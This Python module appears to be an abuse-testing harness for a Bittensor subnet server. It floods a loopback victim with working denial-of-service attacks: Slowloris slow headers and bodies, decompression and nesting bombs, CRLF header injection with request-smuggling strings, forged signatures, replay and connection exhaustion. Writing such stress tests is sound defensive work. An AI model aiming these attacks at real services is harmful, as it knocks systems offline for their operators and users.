"""The attackers, each a function of (port, seconds) that floods a victim on loopback until its time is over.

``python attacks.py NAME PORT SECONDS`` runs one and prints how often it struck. They come from 127.0.0.2,
so that the honest, at 127.0.0.1, share no address with them.
"""

from __future__ import annotations

import asyncio
import random
import struct
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress

import numpy as np
from abuse_protocol import ATTACKER, MINER, Gush, Question

from subnet import auth, codec

FROM = "127.0.0.2"
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
dice = random.Random(7)


@asynccontextmanager
async def connected(port: int) -> AsyncIterator[Streams]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(FROM, 0))
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


def signed(body: bytes, path: str = "/Question") -> dict[str, str]:
    return auth.sign(ATTACKER, method="POST", path=path, body=body, receiver_ss58=MINER.ss58_address)


def post(body: bytes, headers: dict[str, str], *, length: int | None = None, path: str = "/Question") -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: x", f"Content-Length: {len(body) if length is None else length}"]
    lines += [f"{name}: {value}" for name, value in ({"Content-Type": codec.MSGPACK} | headers).items()]
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body


def question() -> bytes:
    return codec.encode(Question(numbers=np.arange(8)))


async def strike(port: int, data: bytes) -> None:
    """One request over a connection of its own; the answer, if any, is read."""
    async with connected(port) as (reader, writer):
        writer.write(data)
        await writer.drain()
        async with asyncio.timeout(5):
            await reader.read(65536)


async def storm(port: int, until: float, shot: Callable[[], bytes], at_once: int = 32) -> int:
    """``shot()`` after ``shot()`` over ``at_once`` connections at a time."""
    done = 0

    async def one() -> None:
        nonlocal done
        while time.monotonic() < until:
            with suppress(OSError, TimeoutError):
                await strike(port, shot())
            done += 1

    await asyncio.gather(*(one() for _ in range(at_once)))
    return done


async def drip(writer: asyncio.StreamWriter, until: float) -> None:
    """A byte every second, for as long as the victim lets it."""
    while time.monotonic() < until and not writer.is_closing():
        writer.write(b"a")
        await writer.drain()
        await asyncio.sleep(1)


# Each attack: what it sends.


async def garbage_bodies(port: int, until: float) -> int:
    def shot() -> bytes:
        body = dice.randbytes(dice.randrange(2000))
        return post(body, signed(body))

    return await storm(port, until, shot)


async def garbage_headers(port: int, until: float) -> int:
    def shot() -> bytes:
        good = post(question(), signed(question()))
        cut = bytearray(good)
        for _ in range(dice.randrange(1, 12)):
            cut[dice.randrange(len(cut))] = dice.randrange(256)
        return bytes(cut)

    return await storm(port, until, shot)


async def header_injection(port: int, until: float) -> int:
    def shot() -> bytes:
        headers = signed(question())
        evil = dice.choice(["\r\nX-Bittensor-Hotkey: " + headers["X-Bittensor-Hotkey"], "\r\n\r\nGET / HTTP/1.1", "\0"])
        name = dice.choice(list(headers))
        return post(question(), headers | {name: headers[name] + evil, "Transfer-Encoding": "chunked, identity"})

    return await storm(port, until, shot)


async def nesting_bombs(port: int, until: float) -> int:
    bombs = [b"\x91" * 500_000, b"\x81\xa1a" * 200_000, b"[" * 500_000]

    def shot() -> bytes:
        body = dice.choice(bombs)
        kind = codec.JSON if body[:1] == b"[" else codec.MSGPACK
        return post(body, signed(body) | {"Content-Type": kind})

    return await storm(port, until, shot, at_once=8)


async def decompression_bombs(port: int, until: float) -> int:
    body = bytes(100_000)
    return await storm(port, until, lambda: post(body, signed(body) | {"Content-Encoding": "gzip"}))


async def giant_lengths(port: int, until: float) -> int:
    tensor = b"\x05int64\x01" + struct.pack("<Q", 1 << 62)
    claims = b"\x81\xa7numbers\xc9" + struct.pack(">IB", 0xFFFFFFFF, 1) + tensor

    def shot() -> bytes:
        if dice.random() < 0.5:
            return post(claims, signed(claims))
        return post(question(), signed(question()), length=dice.choice((1 << 20, (1 << 63) - 1, 1 << 40)))

    return await storm(port, until, shot)


async def early_hang_ups(port: int, until: float) -> int:
    done = 0

    async def one() -> None:
        nonlocal done
        while time.monotonic() < until:
            data = post(question(), signed(question()))
            with suppress(OSError):
                async with connected(port) as (_, writer):
                    writer.write(data[: dice.randrange(len(data) + 1)])
                    await writer.drain()
            done += 1

    await asyncio.gather(*(one() for _ in range(32)))
    return done


async def replay_storm(port: int, until: float) -> int:
    body = question()
    data = post(body, signed(body))
    made = time.monotonic()

    def shot() -> bytes:
        nonlocal data, made
        if time.monotonic() - made > 1:
            data, made = post(body, signed(body)), time.monotonic()
        return data

    return await storm(port, until, shot)


async def forged_signatures(port: int, until: float) -> int:
    body = question()

    def shot() -> bytes:
        return post(body, signed(body) | {"X-Bittensor-Signature": "0x" + dice.randbytes(64).hex()})

    return await storm(port, until, shot)


async def slow_headers(port: int, until: float) -> int:
    """Slowloris: a byte of a header every second over as many connections as are let in."""

    async def one() -> int:
        with suppress(OSError):
            async with connected(port) as (_, writer):
                writer.write(b"POST /Question HTTP/1.1\r\nX-Slow: ")
                await drip(writer, until)
        return 1

    return sum(await asyncio.gather(*(one() for _ in range(600))))


async def slow_headers_after_a_request(port: int, until: float) -> int:
    """As above, once a good request has made the connection a kept one."""

    async def one() -> int:
        with suppress(OSError, TimeoutError, EOFError):
            async with connected(port) as (reader, writer):
                writer.write(post(question(), signed(question())))
                async with asyncio.timeout(20):
                    await reader.readuntil(b"\r\n\r\n")
                writer.write(b"POST /Question HTTP/1.1\r\nX-Slow: ")
                await drip(writer, until)
        return 1

    return sum(await asyncio.gather(*(one() for _ in range(600))))


async def slow_bodies(port: int, until: float) -> int:
    async def one() -> int:
        with suppress(OSError):
            async with connected(port) as (_, writer):
                writer.write(post(b"", signed(question()), length=1 << 20))
                await drip(writer, until)
        return 1

    return sum(await asyncio.gather(*(one() for _ in range(600))))


async def ten_thousand_connections(port: int, until: float) -> int:
    """From twenty addresses, 500 each, silent."""
    open_files: list[asyncio.StreamWriter] = []
    opened = 0
    for number in range(10_000):
        address = f"127.0.{1 + number // 500}.2"
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
            open_files.append(writer)
            opened += 1
        if time.monotonic() > until + 20:
            break
    await asyncio.sleep(max(0.0, until - time.monotonic()))
    for writer in open_files:
        writer.transport.abort()
    return opened


async def kept_connections(port: int, until: float) -> int:
    """From five addresses, 500 each, that ask for nothing any more after one bad request."""
    kept: list[asyncio.StreamWriter] = []
    for number in range(2_500):
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(f"127.0.{1 + number // 500}.2", 0))
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            kept.append(writer)
    await asyncio.sleep(max(0.0, until - time.monotonic()))
    for writer in kept:
        writer.transport.abort()
    return len(kept)


async def tiny_chunks(port: int, until: float) -> int:
    """Bodies a byte a chunk, over and over."""
    head = post(b"", signed(b"")).replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")
    done = 0

    async def one() -> None:
        nonlocal done
        while time.monotonic() < until:
            with suppress(OSError):
                async with connected(port) as (_, writer):
                    writer.write(head)
                    while time.monotonic() < until:
                        writer.write(b"1\r\na\r\n" * 5000)
                        await writer.drain()
            done += 1

    await asyncio.gather(*(one() for _ in range(16)))
    return done


async def unread(port: int, until: float, data: Callable[[], bytes], connections: int) -> int:
    """Requests whose answers nobody takes."""
    async with AsyncExitStack() as stack:
        for _ in range(connections):
            _, writer = await stack.enter_async_context(connected(port))
            writer.transport.pause_reading()
            writer.write(data())
        await asyncio.sleep(max(0.0, until - time.monotonic()))
    return connections


async def unread_replies(port: int, until: float) -> int:
    body = codec.encode(Question(numbers=np.arange(120_000)))
    return await unread(port, until, lambda: post(body, signed(body)), 64)


async def unread_streams(port: int, until: float) -> int:
    """More than there are handlers."""
    body = codec.encode(Gush())
    return await unread(port, until, lambda: post(body, signed(body, "/Gush"), path="/Gush"), 100)


ATTACKS: dict[str, Callable[[int, float], Awaitable[int]]] = {
    attack.__name__: attack
    for attack in (
        garbage_bodies,
        garbage_headers,
        header_injection,
        nesting_bombs,
        decompression_bombs,
        giant_lengths,
        early_hang_ups,
        replay_storm,
        forged_signatures,
        slow_headers,
        slow_headers_after_a_request,
        slow_bodies,
        ten_thousand_connections,
        kept_connections,
        tiny_chunks,
        unread_replies,
        unread_streams,
    )
}

if __name__ == "__main__":
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    print("begun", flush=True)
    sys.stdin.read(1)

    async def main() -> int:
        return await ATTACKS[name](port, time.monotonic() + seconds)

    print(asyncio.run(main()), flush=True)
